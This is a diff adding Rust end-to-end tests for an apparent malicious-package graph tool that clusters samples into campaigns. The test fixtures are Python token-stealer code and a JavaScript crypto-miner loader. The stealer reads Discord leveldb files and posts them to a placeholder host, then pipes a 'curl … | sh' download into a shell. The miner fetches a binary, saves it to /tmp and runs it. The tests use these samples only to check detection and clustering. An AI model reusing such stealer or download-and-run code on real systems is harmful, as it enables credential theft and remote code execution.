@@ -1,0 +1,353 @@
+//! End-to-end tests of the graph build on small synthetic inputs.
+
+use malgraph_core::{Ecosystem, Iocs, PackageFile, PackageId, PackageName, ScanReport};
+use malgraph_graph::*;
+
+fn file(path: &str, code: &str) -> PackageFile {
+    PackageFile {
+        path: path.into(),
+        data: code.as_bytes().to_vec(),
+    }
+}
+
+/// A stealer body; `n` renames identifiers and strings like a re-released copy would.
+fn stealer(n: usize) -> String {
+    format!(
+        r#"
+import os, base64, requests
+def grab_{n}(path_{n}):
+    data_{n} = []
+    for root_{n}, dirs, files in os.walk(os.path.expanduser(path_{n})):
+        for f_{n} in files:
+            if f_{n}.endswith(".ldb") or f_{n}.endswith(".log"):
+                with open(os.path.join(root_{n}, f_{n}), "rb") as fh:
+                    data_{n}.append(base64.b64encode(fh.read()).decode())
+    return data_{n}
+class Sender{n}:
+    def __init__(self, url_{n}):
+        self.url_{n} = url_{n}
+    def send(self, payload_{n}):
+        requests.post(self.url_{n}, json={{"content": payload_{n}, "id": {n}}})
+tokens_{n} = grab_{n}("~/.config/discord/Local Storage/leveldb")
+Sender{n}("https://evil{n}.test/hook").send(tokens_{n})
+os.system("curl -s http://evil{n}.test/p{n} | sh")
+"#
+    )
+}
+
+fn miner() -> String {
+    r#"
+const cp = require('child_process');
+const https = require('https');
+function fetchMiner(u, cb) { https.get(u, (res) => { let b = ''; res.on('data', (c) => b += c); res.on('end', () => cb(b)); }); }
+fetchMiner('https://pool.test/xmrig', (bin) => {
+  require('fs').writeFileSync('/tmp/.x', bin, { mode: 0o755 });
+  cp.exec('/tmp/.x --donate-level 1 -o pool.test:3333 -u wallet', () => {});
+  setInterval(() => { process.stdout.write('.'); }, 1000);
+});
+"#
+    .into()
+}
+
+fn sample(
+    name: &str,
+    version: &str,
+    sha: &str,
+    code: &str,
+    deps: &[&str],
+    imports: &[&str],
+) -> SampleEntry {
+    let pid = PackageId::new(Ecosystem::PyPI, name, Some(version));
+    let fp = fingerprint(&[file(&format!("{name}-{version}/{name}/__init__.py"), code)]);
+    let mut scan = ScanReport::error("x", Some(sha.into()), "");
+    scan.error = None;
+    scan.metadata.dependencies = deps.iter().map(|s| s.to_string()).collect();
+    scan.metadata.imports = imports.iter().map(|s| s.to_string()).collect();
+    SampleEntry {
+        sha256: sha.into(),
+        package: pid,
+        source: Some("test".into()),
+        date: Some("2023-01-01".into()),
+        fingerprint: Some(fp),
+        scan: Some(scan),
+    }
+}
+
+fn edges_between<'a>(g: &'a Graph, a: &str, b: &str, kind: EdgeKind) -> Vec<&'a Edge> {
+    g.edges
+        .iter()
+        .filter(|e| {
+            e.kind == kind && ((e.source == a && e.target == b) || (e.source == b && e.target == a))
+        })
+        .collect()
+}
+
+fn base_input() -> GraphInput {
+    // a/b: renamed near-copies (one extra line in b); c: unrelated JS; d: same bytes as a
+    let mut b_code = stealer(2);
+    b_code.push_str("print('done')\n");
+    let mut input = GraphInput::default();
+    input.samples.push(sample(
+        "alpha",
+        "1.0",
+        "aa",
+        &stealer(1),
+        &[],
+        &["os", "sys", "base64"],
+    ));
+    input
+        .samples
+        .push(sample("bravo", "0.1", "bb", &b_code, &[], &[]));
+    input
+        .samples
+        .push(sample("charlie", "2.0", "cc", &miner(), &[], &[]));
+    input
+        .samples
+        .push(sample("delta", "9.9", "aa", &stealer(1), &[], &[]));
+    input
+}
+
+#[test]
+fn renamed_copies_are_similar_unrelated_code_is_not() {
+    let g = build(&base_input(), &BuildOptions::default());
+    let sim = edges_between(
+        &g,
+        "ver:pypi/alpha@1.0",
+        "ver:pypi/bravo@0.1",
+        EdgeKind::Similar,
+    );
+    let dup = edges_between(
+        &g,
+        "ver:pypi/alpha@1.0",
+        "ver:pypi/bravo@0.1",
+        EdgeKind::Duplicated,
+    );
+    assert_eq!(sim.len() + dup.len(), 1, "{:#?}", g.edges);
+    if let Some(e) = sim.first() {
+        assert!(e.score.unwrap_or(0.0) >= DEFAULT_SIMILARITY);
+    }
+    for other in ["ver:pypi/alpha@1.0", "ver:pypi/bravo@0.1"] {
+        assert!(edges_between(&g, other, "ver:pypi/charlie@2.0", EdgeKind::Similar).is_empty());
+    }
+}
+
+#[test]
+fn same_sha256_under_two_names_is_duplicated() {
+    let g = build(&base_input(), &BuildOptions::default());
+    let d = edges_between(
+        &g,
+        "ver:pypi/alpha@1.0",
+        "ver:pypi/delta@9.9",
+        EdgeKind::Duplicated,
+    );
+    assert_eq!(d.len(), 1);
+    assert!(d[0].why.contains("sha256"));
+    // both are artifacts of one artifact node
+    assert_eq!(
+        g.edges
+            .iter()
+            .filter(|e| e.kind == EdgeKind::ArtifactOf && e.source == "sha256:aa")
+            .count(),
+        2
+    );
+}
+
+#[test]
+fn stdlib_and_popular_imports_never_make_dependency_edges() {
+    let mut input = base_input();
+    // names that are "known malicious" in the input but are stdlib / ubiquitous
+    for n in ["os", "sys", "requests", "setuptools"] {
+        input.packages.push(PackageEntry {
+            id: PackageId::new(Ecosystem::PyPI, n, None),
+            source: "list".into(),
+            first_reported: None,
+            withdrawn: false,
+        });
+    }
+    input.samples.push(sample(
+        "echo",
+        "1",
+        "ee",
+        "import os",
+        &["requests", "setuptools", "alpha", "unknown-pkg"],
+        &["os", "sys", "bravo", "echo_helpers"],
+    ));
+    let g = build(&input, &BuildOptions::default());
+    let deps: Vec<(&str, &str)> = g
+        .edges
+        .iter()
+        .filter(|e| e.kind == EdgeKind::Dependency)
+        .map(|e| (e.source.as_str(), e.target.as_str()))
+        .collect();
+    assert_eq!(
+        deps,
+        vec![
+            ("ver:pypi/echo@1", "pkg:pypi/alpha"),
+            ("ver:pypi/echo@1", "pkg:pypi/bravo")
+        ]
+    );
+}
+
+#[test]
+fn reports_and_indicators_join_campaigns_without_cliques() {
+    let mut input = base_input();
+    input.reports.push(ReportEntry {
+        location: "https://blog.test/campaign".into(),
+        title: Some("Campaign X".into()),
+        published: Some("2023-02-01".into()),
+        packages: vec![
+            PackageId::new(Ecosystem::PyPI, "charlie", None),
+            PackageId::new(Ecosystem::PyPI, "foxtrot", None),
+            PackageId::new(Ecosystem::PyPI, "golf", None),
+        ],
+        iocs: Iocs::default(),
+    });
+    let mut iocs = Iocs::default();
+    iocs.webhooks
+        .insert("https://discord.com/api/webhooks/1/abc".into());
+    iocs.domains.insert("github.com".into());
+    for n in ["hotel", "india"] {
+        input.advisories.push(AdvisoryEntry {
+            id: format!("MAL-{n}"),
+            package: PackageName::new(Ecosystem::PyPI, n),
+            versions: vec![],
+            source: "osv".into(),
+            published: Some("2023-03-01".into()),
+            references: vec!["https://security.snyk.io/vuln/X".into()],
+            summary: None,
+            iocs: iocs.clone(),
+            withdrawn: false,
+        });
+    }
+    let g = build(&input, &BuildOptions::default());
+    // report: 3 edges, no package-package co-existing edges
+    let co: Vec<&Edge> = g
+        .edges
+        .iter()
+        .filter(|e| e.kind == EdgeKind::CoExisting)
+        .collect();
+    assert_eq!(co.len(), 3);
+    assert!(co.iter().all(|e| e.source.starts_with("report:")));
+    // shared webhook yes, benign domain no, snyk reference no report node
+    assert!(
+        g.node("ioc:webhook:https://discord.com/api/webhooks/1/abc")
+            .is_some()
+    );
+    assert!(g.node("ioc:domain:github.com").is_none());
+    assert!(g.node("report:https://security.snyk.io/vuln/X").is_none());
+    let names: Vec<Vec<String>> = g.campaigns.iter().map(|c| c.names.clone()).collect();
+    assert!(names.contains(&vec![
+        "pypi/charlie".to_string(),
+        "pypi/foxtrot".into(),
+        "pypi/golf".into()
+    ]));
+    assert!(names.contains(&vec!["pypi/hotel".to_string(), "pypi/india".into()]));
+    assert!(names.contains(&vec![
+        "pypi/alpha".to_string(),
+        "pypi/bravo".into(),
+        "pypi/delta".into()
+    ]));
+    let text = render_campaigns_text(&g);
+    assert!(text.contains("3 campaigns"), "{text}");
+}
+
+#[test]
+fn show_explains_edges() {
+    let g = build(&base_input(), &BuildOptions::default());
+    let id = PackageId::parse_ref("pypi/alpha").unwrap();
+    let n = neighbours(&g, &id);
+    assert!(
+        n.iter()
+            .any(|e| e.kind == EdgeKind::Duplicated && e.neighbour == "ver:pypi/delta@9.9")
+    );
+    let text = render_show_text(&g, &id, &n);
+    assert!(text.contains("same sha256"), "{text}");
+    let none = PackageId::parse_ref("pypi/zulu").unwrap();
+    assert!(render_show_text(&g, &none, &neighbours(&g, &none)).contains("not in the graph"));
+}
+
+#[test]
+fn builds_and_exports_are_deterministic_and_order_independent() {
+    let input = synthetic_input(400, 7);
+    let mut shuffled = input.clone();
+    shuffled.samples.reverse();
+    shuffled.advisories.reverse();
+    let a = build(&input, &BuildOptions::default());
+    let b = build(&shuffled, &BuildOptions::default());
+    assert_eq!(to_node_link_json(&a), to_node_link_json(&b));
+    assert_eq!(to_graphml(&a), to_graphml(&b));
+    let na = to_neo4j(&a).unwrap();
+    assert_eq!(na, to_neo4j(&b).unwrap());
+    assert!(na.iter().any(|(n, _)| n == "import.cypher"));
+    assert!(a.stats.edges.get("similar").copied().unwrap_or(0) > 0);
+}
+
+#[test]
+fn synthetic_families_become_campaigns() {
+    let input = synthetic_input(2000, 3);
+    let g = build(&input, &BuildOptions::default());
+    // every similar edge joins members of one synthetic family (syn-FAM-i)
+    let fam = |id: &str| id.split('-').nth(1).map(str::to_string);
+    let sims: Vec<&Edge> = g
+        .edges
+        .iter()
+        .filter(|e| e.kind == EdgeKind::Similar)
+        .collect();
+    assert!(!sims.is_empty());
+    let same = sims
+        .iter()
+        .filter(|e| fam(&e.source) == fam(&e.target))
+        .count();
+    assert_eq!(same, sims.len());
+    assert!(g.stats.names_in_campaigns * 10 >= g.stats.names_total * 6);
+    assert!(g.diversity.code_clusters < g.diversity.packages_with_code);
+}
+
+fn python_with_networkx() -> Option<&'static str> {
+    let ok = std::process::Command::new("python3")
+        .args(["-c", "import networkx"])
+        .output()
+        .is_ok_and(|o| o.status.success());
+    ok.then_some("python3")
+}
+
+#[test]
+fn networkx_loads_json_and_graphml() {
+    let Some(py) = python_with_networkx() else {
+        eprintln!("skipped: python3 with networkx not available");
+        return;
+    };
+    let g = build(&synthetic_input(300, 11), &BuildOptions::default());
+    let dir = tempfile::tempdir().unwrap();
+    let j = dir.path().join("g.json");
+    let x = dir.path().join("g.graphml");
+    std::fs::write(&j, to_node_link_json(&g)).unwrap();
+    std::fs::write(&x, to_graphml(&g)).unwrap();
+    let script = format!(
+        r#"
+import json, networkx as nx
+d = json.load(open({j:?}))
+g = nx.node_link_graph(d, edges="links")
+h = nx.read_graphml({x:?})
+assert g.number_of_nodes() == {n} == h.number_of_nodes(), (g.number_of_nodes(), h.number_of_nodes())
+assert g.number_of_edges() == {e} == h.number_of_edges(), (g.number_of_edges(), h.number_of_edges())
+v = [n for n, a in g.nodes(data=True) if a["kind"] == "package-version"][0]
+a = g.nodes[v]
+assert a["ecosystem"] and a["name"] and a["version"], a
+print("ok")
+"#,
+        j = j.to_str().unwrap(),
+        x = x.to_str().unwrap(),
+        n = g.nodes.len(),
+        e = g.edges.len()
+    );
+    let out = std::process::Command::new(py)
+        .args(["-c", &script])
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
